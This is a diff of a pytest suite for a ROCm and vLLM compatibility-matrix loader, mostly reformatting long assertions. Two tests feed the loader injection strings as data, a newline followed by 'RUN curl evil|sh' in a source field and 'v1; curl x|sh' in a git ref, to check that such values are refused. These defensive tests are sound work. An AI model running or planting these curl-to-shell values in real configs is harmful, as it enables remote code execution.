@@ -45,7 +45,14 @@ def test_rocm_gfx_sets_follow_amds_matrix() -> None:
 
 
 def test_driver_table_windows() -> None:
-    assert M.driver("6.1") is not None and M.driver("6.1").user_space == ("5.7", "6.0", "6.1", "6.2", "6.3", "6.4")
+    assert M.driver("6.1") is not None and M.driver("6.1").user_space == (
+        "5.7",
+        "6.0",
+        "6.1",
+        "6.2",
+        "6.3",
+        "6.4",
+    )
     d3030 = M.driver("30.30")
     assert d3030 is not None and d3030.runs(Version("7.2.3")) and d3030.runs(Version("6.3.1"))
     assert not d3030.runs(Version("6.2.4"))
@@ -100,7 +107,14 @@ def test_every_ref_and_tag_is_safe() -> None:
 
 
 def test_examples_cover_the_named_profiles() -> None:
-    assert {e.name for e in M.examples} >= {"mi300x-8", "mi355x-8", "mi250x-4", "rx7900xtx", "r9700", "strix-halo"}
+    assert {e.name for e in M.examples} >= {
+        "mi300x-8",
+        "mi355x-8",
+        "mi250x-4",
+        "rx7900xtx",
+        "r9700",
+        "strix-halo",
+    }
 
 
 def test_official_images_are_vllms_own_with_serve_entrypoint() -> None:
@@ -121,9 +135,13 @@ def test_every_driver_window_names_rocm_series_the_data_knows() -> None:
     for d in M.drivers:
         for s in d.user_space:
             if Version(s) >= Version(_series(first)):
-                assert s in known, f"driver {d.series}: user_space {s} is not a ROCm series in rocm.toml"
+                assert s in known, (
+                    f"driver {d.series}: user_space {s} is not a ROCm series in rocm.toml"
+                )
         if d.paired_rocm is not None:
-            assert _series(Version(d.paired_rocm)) in d.user_space, f"driver {d.series} does not run its own paired ROCm"
+            assert _series(Version(d.paired_rocm)) in d.user_space, (
+                f"driver {d.series} does not run its own paired ROCm"
+            )
 
 
 def test_exact_driver_windows_hold_only_amds_table_rows() -> None:
@@ -131,7 +149,9 @@ def test_exact_driver_windows_hold_only_amds_table_rows() -> None:
     previews = {_series(r.version) for r in M.rocm if r.stream == "therock-preview"}
     for d in M.drivers:
         if d.provenance.confidence == "exact":
-            assert not previews & set(d.user_space), f"driver {d.series}: exact row names previews {previews & set(d.user_space)}"
+            assert not previews & set(d.user_space), (
+                f"driver {d.series}: exact row names previews {previews & set(d.user_space)}"
+            )
 
 
 def test_every_amd_image_names_a_rocm_release_of_its_own_stream() -> None:
@@ -140,7 +160,9 @@ def test_every_amd_image_names_a_rocm_release_of_its_own_stream() -> None:
             continue
         rel = M.rocm_release(img.rocm)
         assert rel is not None, f"{img.repo}:{img.tag}: ROCm {img.rocm} is not in rocm.toml"
-        assert img.stream == rel.stream, f"{img.repo}:{img.tag}: stream {img.stream} but {rel.label} is {rel.stream}"
+        assert img.stream == rel.stream, (
+            f"{img.repo}:{img.tag}: stream {img.stream} but {rel.label} is {rel.stream}"
+        )
 
 
 def test_amd_vllm_tags_are_the_ones_amd_lists() -> None:
@@ -165,8 +187,12 @@ def test_arch_lists_read_from_family_names_are_not_exact() -> None:
 def test_per_gpu_os_limits_name_only_os_the_release_lists() -> None:
     for r in M.rocm:
         for restr in r.os_restrictions:
-            assert set(restr.os) <= set(r.os), f"{r.label}: {restr.note[:40]} names OS outside the release's list"
-            assert set(restr.gfx) <= set(r.gfx) or not r.gfx, f"{r.label}: restriction for a gfx the release does not list"
+            assert set(restr.os) <= set(r.os), (
+                f"{r.label}: {restr.note[:40]} names OS outside the release's list"
+            )
+            assert set(restr.gfx) <= set(r.gfx) or not r.gfx, (
+                f"{r.label}: restriction for a gfx the release does not list"
+            )
 
 
 def test_sles_service_packs_keep_amds_glibc() -> None:
@@ -184,8 +210,14 @@ def test_rocm_dates_are_iso_days() -> None:
 def test_cmake_accepting_gfx906_does_not_make_it_supported() -> None:
     g906 = M.gfx_target("gfx906")
     assert g906 is not None and g906.vllm_status == "unsupported"
-    assert any("gfx906" in v.cmake_arch for v in M.vllm), "the premise of this test: CMake accepts gfx906"
-    shipped = [*(a for v in M.vllm for a in v.arch), *(a for i in M.images for a in i.arch), *(a for w in M.wheels for a in w.arch)]
+    assert any("gfx906" in v.cmake_arch for v in M.vllm), (
+        "the premise of this test: CMake accepts gfx906"
+    )
+    shipped = [
+        *(a for v in M.vllm for a in v.arch),
+        *(a for i in M.images for a in i.arch),
+        *(a for w in M.wheels for a in w.arch),
+    ]
     assert "gfx906" not in shipped
     # The verdict cites why (Triton, AMD's deprecation, the maintainers' pointer), not a comment-only PR.
     assert "triton" in g906.provenance.source.lower() and "22458" in g906.provenance.source
@@ -205,18 +237,65 @@ def _break(tmp_path: Path, file: str, old: str, new: str) -> Path:
 @pytest.mark.parametrize(
     ("file", "old", "new", "expected"),
     [
-        ("vllm.toml", 'rocm = "6.3.1"', 'rocm = "six"', r"vllm\.toml: release\[\d+\] \(0\.7\.0\): field 'rocm' 'six' is not a version"),
-        ("images.toml", 'arch = ["gfx942"]', 'arch = ["gfx9999"]', r"images\.toml: image .*: field 'arch' names unknown gfx target 'gfx9999'"),
-        ("images.toml", 'rocm = "6.4.1"', 'rocm = "6.4.9"', r"field 'rocm' names ROCm 6\.4\.9, which rocm\.toml does not know"),
-        ("rocm.toml", 'stream = "legacy"', 'stream = "beta"', r"rocm\.toml: release\[0\] \(6\.0\.0\): field 'stream' is 'beta'"),
-        ("drivers.toml", 'series = "30.30"', 'series = "30.30.3"', r"drivers\.toml: .*'30\.30\.3' is not a MAJOR\.MINOR series"),
-        ("gfx.toml", 'aiter = "full"', 'aiter = "yes"', r"gfx\.toml: gfx\[0\] \(gfx950\)\.features: field 'aiter'"),
-        ("wheels.toml", 'vllm = ">=0.14.0,<=0.18.0"', 'vllm = "fourteen"', r"wheels\.toml: variant\[0\] \(rocm700\): field 'vllm'"),
-        ("nodes.toml", "gpus = 8", "gpus = 0", r"nodes\.toml: example\[0\] \(mi300x-8\): field 'gpus' must be a whole number"),
-        ("os.toml", 'id = "ubuntu-26.04"', "id = 2604", r"os\.toml: os\[0\] \(Ubuntu 26\.04\): field 'id' must be a string"),
+        (
+            "vllm.toml",
+            'rocm = "6.3.1"',
+            'rocm = "six"',
+            r"vllm\.toml: release\[\d+\] \(0\.7\.0\): field 'rocm' 'six' is not a version",
+        ),
+        (
+            "images.toml",
+            'arch = ["gfx942"]',
+            'arch = ["gfx9999"]',
+            r"images\.toml: image .*: field 'arch' names unknown gfx target 'gfx9999'",
+        ),
+        (
+            "images.toml",
+            'rocm = "6.4.1"',
+            'rocm = "6.4.9"',
+            r"field 'rocm' names ROCm 6\.4\.9, which rocm\.toml does not know",
+        ),
+        (
+            "rocm.toml",
+            'stream = "legacy"',
+            'stream = "beta"',
+            r"rocm\.toml: release\[0\] \(6\.0\.0\): field 'stream' is 'beta'",
+        ),
+        (
+            "drivers.toml",
+            'series = "30.30"',
+            'series = "30.30.3"',
+            r"drivers\.toml: .*'30\.30\.3' is not a MAJOR\.MINOR series",
+        ),
+        (
+            "gfx.toml",
+            'aiter = "full"',
+            'aiter = "yes"',
+            r"gfx\.toml: gfx\[0\] \(gfx950\)\.features: field 'aiter'",
+        ),
+        (
+            "wheels.toml",
+            'vllm = ">=0.14.0,<=0.18.0"',
+            'vllm = "fourteen"',
+            r"wheels\.toml: variant\[0\] \(rocm700\): field 'vllm'",
+        ),
+        (
+            "nodes.toml",
+            "gpus = 8",
+            "gpus = 0",
+            r"nodes\.toml: example\[0\] \(mi300x-8\): field 'gpus' must be a whole number",
+        ),
+        (
+            "os.toml",
+            'id = "ubuntu-26.04"',
+            "id = 2604",
+            r"os\.toml: os\[0\] \(Ubuntu 26\.04\): field 'id' must be a string",
+        ),
     ],
 )
-def test_broken_file_errors_name_file_record_field(tmp_path: Path, file: str, old: str, new: str, expected: str) -> None:
+def test_broken_file_errors_name_file_record_field(
+    tmp_path: Path, file: str, old: str, new: str, expected: str
+) -> None:
     d = _break(tmp_path, file, old, new)
     with pytest.raises(MatrixError, match=expected) as info:
         matrix.load_dir(d)
@@ -226,8 +305,17 @@ def test_broken_file_errors_name_file_record_field(tmp_path: Path, file: str, ol
 def test_line_breaks_in_data_strings_are_refused(tmp_path: Path) -> None:
     d = copy_matrix(tmp_path)
     text = (d / "vllm.toml").read_text()
-    (d / "vllm.toml").write_text(text.replace('source = "vllm-project/vllm@v0.10.0', 'source = "x\\nRUN curl evil|sh vllm-project/vllm@v0.10.0', 1))
-    with pytest.raises(MatrixError, match=r"vllm\.toml: release\[\d+\] \(0\.10\.0\): field 'source' contains a line break"):
+    (d / "vllm.toml").write_text(
+        text.replace(
+            'source = "vllm-project/vllm@v0.10.0',
+            'source = "x\\nRUN curl evil|sh vllm-project/vllm@v0.10.0',
+            1,
+        )
+    )
+    with pytest.raises(
+        MatrixError,
+        match=r"vllm\.toml: release\[\d+\] \(0\.10\.0\): field 'source' contains a line break",
+    ):
         matrix.load_dir(d)
 
 
@@ -266,14 +354,18 @@ def test_missing_file_is_a_matrix_error(tmp_path: Path) -> None:
 
 def test_hostile_ref_is_refused_at_load(tmp_path: Path) -> None:
     d = _break(tmp_path, "vllm.toml", 'ref = "916bf3c"', 'ref = "v1; curl x|sh"')
-    with pytest.raises(UnsafeValueError, match=r"pins\.aiter\.ref.*'v1; curl x\|sh' is not an acceptable ref"):
+    with pytest.raises(
+        UnsafeValueError, match=r"pins\.aiter\.ref.*'v1; curl x\|sh' is not an acceptable ref"
+    ):
         matrix.load_dir(d)
 
 
 def test_duplicate_records_are_refused(tmp_path: Path) -> None:
     d = copy_matrix(tmp_path)
     text = (d / "nodes.toml").read_text()
-    first = text[text.index("[[example]]") : text.index("[[example]]", text.index("[[example]]") + 1)]
+    first = text[
+        text.index("[[example]]") : text.index("[[example]]", text.index("[[example]]") + 1)
+    ]
     (d / "nodes.toml").write_text(text + "\n" + first)
     with pytest.raises(MatrixError, match="duplicate example mi300x-8"):
         matrix.load_dir(d)
@@ -282,7 +374,9 @@ def test_duplicate_records_are_refused(tmp_path: Path) -> None:
 # --- the compiled matrix kept between runs -----------------------------------------------------
 
 
-def test_compiled_matrix_is_reused_and_invalidated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_compiled_matrix_is_reused_and_invalidated(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     d = copy_matrix(tmp_path)
     monkeypatch.setenv("ROCM_VLLM_MATRIX_DIR", str(d))
     matrix._load_cached.cache_clear()
@@ -300,7 +394,11 @@ def test_compiled_matrix_is_reused_and_invalidated(tmp_path: Path, monkeypatch: 
         mp.setattr(matrix.bounded, "load_toml", no_parsing)
         assert matrix.load() == first  # read back from the compiled file
     # An edit makes a new entry with the new facts; a corrupt entry is ignored, not trusted.
-    text = (d / "nodes.toml").read_text().replace('description = "8x AMD Instinct MI300X', 'description = "Eight MI300X', 1)
+    text = (
+        (d / "nodes.toml")
+        .read_text()
+        .replace('description = "8x AMD Instinct MI300X', 'description = "Eight MI300X', 1)
+    )
     (d / "nodes.toml").write_text(text)
     matrix._load_cached.cache_clear()
     assert matrix.load().example("mi300x-8").description.startswith("Eight MI300X")  # type: ignore[union-attr]
@@ -339,7 +437,11 @@ def test_shipped_data_has_sourced_apu_floors_and_module_pairs() -> None:
     assert all("os-support.yaml" in f.provenance.source for f in strix.kernel_floors)
     assert "strixhalo" in strix.unified_memory_source
     paired = live.driver_for_module("6.19.14")
-    assert paired is not None and paired.series == "31.40" and "gpu-operator" in paired.module_versions_source
+    assert (
+        paired is not None
+        and paired.series == "31.40"
+        and "gpu-operator" in paired.module_versions_source
+    )
     assert live.driver_for_module("6.16.6") is None
 
 
@@ -350,10 +452,14 @@ def test_schema_doc_is_generated_from_the_model() -> None:
     from resolver import schema
 
     doc = json.loads((LIVE_MATRIX.parent / "docs" / "matrix.schema.json").read_text())
-    assert doc == schema.json_schema(), "regenerate: python -m resolver.schema > docs/matrix.schema.json"
+    assert doc == schema.json_schema(), (
+        "regenerate: python -m resolver.schema > docs/matrix.schema.json"
+    )
 
 
-@pytest.mark.parametrize("directory", [LIVE_MATRIX, LIVE_MATRIX.parent / "tests" / "data" / "matrix"])
+@pytest.mark.parametrize(
+    "directory", [LIVE_MATRIX, LIVE_MATRIX.parent / "tests" / "data" / "matrix"]
+)
 def test_shipped_files_validate_against_the_schema(directory: Path) -> None:
     import tomllib
 
@@ -368,13 +474,25 @@ def test_shipped_files_validate_against_the_schema(directory: Path) -> None:
 @pytest.mark.parametrize(
     ("file", "old", "new", "message"),
     [
-        ("gfx.toml", "vllm_status = ", "vlm_status = ", "unknown field 'vlm_status' (did you mean 'vllm_status'?)"),
-        ("gfx.toml", "fp8_format = ", "fp8_formt = ", "unknown field 'features.fp8_formt' (did you mean 'features.fp8_format'?)"),
+        (
+            "gfx.toml",
+            "vllm_status = ",
+            "vlm_status = ",
+            "unknown field 'vlm_status' (did you mean 'vllm_status'?)",
+        ),
+        (
+            "gfx.toml",
+            "fp8_format = ",
+            "fp8_formt = ",
+            "unknown field 'features.fp8_formt' (did you mean 'features.fp8_format'?)",
+        ),
         ("vllm.toml", "variant = ", "varient = ", "unknown field 'stack.varient'"),
         ("images.toml", "entrypoint = ", "entry_point = ", "unknown field 'entry_point'"),
     ],
 )
-def test_a_typo_in_a_field_name_is_refused_with_its_place(tmp_path: Path, file: str, old: str, new: str, message: str) -> None:
+def test_a_typo_in_a_field_name_is_refused_with_its_place(
+    tmp_path: Path, file: str, old: str, new: str, message: str
+) -> None:
     import shutil
 
     d = tmp_path / "live"
